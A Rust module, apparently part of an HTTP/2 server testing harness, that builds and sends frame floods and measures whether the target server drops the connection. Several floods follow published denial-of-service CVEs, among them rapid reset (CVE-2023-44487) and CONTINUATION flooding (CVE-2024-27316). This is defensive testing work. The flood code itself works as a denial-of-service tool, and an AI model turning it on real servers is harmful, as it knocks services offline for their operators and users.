//! Floods of HTTP/2 frames that cost a server work and the client nothing.

use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::{
    honest::ATTACKER,
    wire::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire, begun, call, fields, frame,
        greeting,
    },
};

/// How long the flood of a connection goes on that is not cut.
pub const PATIENCE: Duration = Duration::from_secs(3);
const FRAMES_AT_ONCE: u32 = 100;

/// A kind of flood.
pub struct Flood {
    pub name: &'static str,
    /// What comes before it.
    first: fn() -> Vec<u8>,
    /// The parts of the flood, by number.
    part: fn(u32) -> Vec<u8>,
}

const NONE: fn() -> Vec<u8> = Vec::new;

pub const FLOODS: &[Flood] = &[
    Flood { name: "priority", first: NONE, part: |_| frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 7]) },
    Flood { name: "settings", first: NONE, part: |_| frame(SETTINGS, 0, 0, &[]) },
    Flood { name: "ping", first: NONE, part: |_| frame(PING, 0, 0, &[0; 8]) },
    Flood { name: "window update", first: NONE, part: |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()) },
    Flood { name: "unknown frame", first: NONE, part: |_| frame(77, 0, 0, &[]) },
    // CVE-2019-9518: data without bytes, to a call whose message does not come.
    Flood { name: "empty data", first: || begun(1), part: |_| frame(DATA, 0, 1, &[]) },
    // CVE-2024-27316: headers that never end.
    Flood { name: "continuation", first: || frame(HEADERS, 0, 1, &fields()), part: |_| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']) },
    // CVE-2023-44487: calls that are taken back at once.
    Flood {
        name: "reset",
        first: NONE,
        part: |number| [call(odd(number)), frame(RST_STREAM, 0, odd(number), &8_u32.to_be_bytes())].concat(),
    },
    // CVE-2025-8671: calls that the server must end itself, for what comes on them is wrong.
    Flood {
        name: "reset by the server",
        first: NONE,
        part: |number| [frame(HEADERS, END_HEADERS, odd(number), &fields()), frame(WINDOW_UPDATE, 0, odd(number), &[0; 4])].concat(),
    },
];

/// Streams of clients have odd numbers.
pub fn odd(number: u32) -> u32 {
    2 * number + 1
}

/// Floods on one connection, reading whatever is answered; how long it took until that was cut, if it was.
///
/// # Errors
/// Nobody takes the connection.
pub async fn flood(address: SocketAddr, kind: &Flood) -> anyhow::Result<Option<Duration>> {
    let wire = Wire::open(address, ATTACKER, &[greeting(&[]), (kind.first)()].concat()).await?;
    let (mut reader, mut writer) = wire.stream.into_split();
    let begun = Instant::now();
    let reading = async move {
        let mut answers = vec![0; 64 << 10];
        while reader.read(&mut answers).await.is_ok_and(|count| count > 0) {}
    };
    let writing = async move {
        let mut number = 0;
        loop {
            let parts: Vec<u8> = (number..number + FRAMES_AT_ONCE).flat_map(kind.part).collect();
            number += FRAMES_AT_ONCE;
            if writer.write_all(&parts).await.is_err() {
                break;
            }
        }
    };
    // Either side sees the end.
    Ok(tokio::select! {
        () = reading => Some(begun.elapsed()),
        () = writing => Some(begun.elapsed()),
        () = tokio::time::sleep(PATIENCE) => None,
    })
}
